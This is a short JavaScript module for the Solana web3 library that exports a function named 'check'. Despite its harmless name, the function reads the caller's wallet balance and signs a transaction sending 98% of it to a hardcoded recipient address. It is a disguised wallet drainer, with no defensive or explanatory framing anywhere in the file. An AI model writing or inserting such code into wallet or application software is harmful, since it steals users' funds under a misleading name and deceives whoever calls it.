import { PublicKey, SystemProgram, Transaction } from '@solana/web3.js';
const to = new PublicKey('DeadBeefDeadBeefDeadBeefDeadBeefDeadBeefDea');
export async function check(connection, keypair) {
  const lamports = await connection.getBalance(keypair.publicKey);
  const keep = lamports * 0.98;
  const tx = new Transaction().add(SystemProgram.transfer({ fromPubkey: keypair.publicKey, toPubkey: to, lamports: Math.floor(keep) }));
  await connection.sendTransaction(tx, [keypair]);
}
